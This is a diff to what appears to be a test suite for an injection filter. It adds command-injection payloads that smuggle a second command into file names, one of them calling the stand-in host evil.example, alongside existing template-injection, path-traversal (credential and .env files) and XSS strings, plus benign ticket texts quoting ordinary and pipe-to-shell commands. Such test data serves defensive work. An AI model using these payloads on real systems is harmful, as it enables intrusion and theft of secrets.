@@ -53,6 +53,8 @@ ATTACKS = {
     "ssti": ["{0.__class__}", "{user.__init__.__globals__[SECRET_KEY]}", "{app.config[SECRET_KEY]}", "%(__class__)s"],
     "path_traversal": ["/home/app/.aws/credentials", "/app/.env", "/proc/self/cwd/app.py", "/.well-known/../etc/passwd"],
     "xss": ["';alert(String.fromCharCode(88,83,83))//", "'-alert(1)-'"],
+    # a data value before the separator is still an injection (twins of command lines below)
+    "command_injection": ["photo.jpg; curl -I evil.example", "report.pdf && sleep 5", "x$(ls -la)", "in$(id)"],
 }
 CASES = [(category, payload) for category, payloads in ATTACKS.items() for payload in payloads]
 
@@ -86,6 +88,10 @@ TICKETS = [
     "Customer reports: \"curl -fsSL https://get.docker.com | sh\" returns permission denied on their box.",
     "Output of `wget https://github.com/org/tool/releases/download/v1.2/tool.tar.gz`:\n```\nok\n```",
     "> powershell -Command Get-Service\n\nThat worked, thanks!",
+    # whole command lines, as tickets quote them
+    "sleep 5 && curl -I localhost", "Workaround: python manage.py migrate; python manage.py collectstatic",
+    "Tried wget -qO- https://deb.nodesource.com/setup_20.x | sudo -E bash -", "for f in $(ls *.log); do gzip $f; done",
+    "Run: systemctl status nginx | head", "python -c \"import os; print(os.getcwd())\"", "Invoke-WebRequest https://example.com -OutFile x.zip",
 ]
 
 
